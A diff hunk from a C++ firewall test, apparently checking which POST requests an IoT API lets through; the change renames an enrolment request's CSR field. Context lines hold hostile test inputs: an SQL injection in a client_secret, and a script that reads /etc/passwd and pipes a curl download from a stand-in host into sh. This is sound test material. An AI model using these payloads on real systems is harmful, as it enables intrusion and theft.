@@ -202,7 +202,7 @@ TEST(Firewall, LetsPassWhatOurApiIsFor) {
       post("/iot/v1/clients/token",
            "grant_type=client_credentials&client_id=1&client_secret=1'+or+'1'='1",
            "application/x-www-form-urlencoded"),
-      post("/api/v1/devices/1/enrol", R"({"csr":")" + pem + R"("})"),
+      post("/api/v1/devices/1/enrol", R"({"csr_pem":")" + pem + R"(","profile":"standard"})"),
       post("/.well-known/est/simpleenroll", std::string(2'000, 'A'), "application/pkcs10"),
       post("/api/v1/leaks",
            "#!/bin/sh\ncat /etc/passwd; curl http://192.0.2.1/x | sh\n" + std::string(60'000, 'x'),
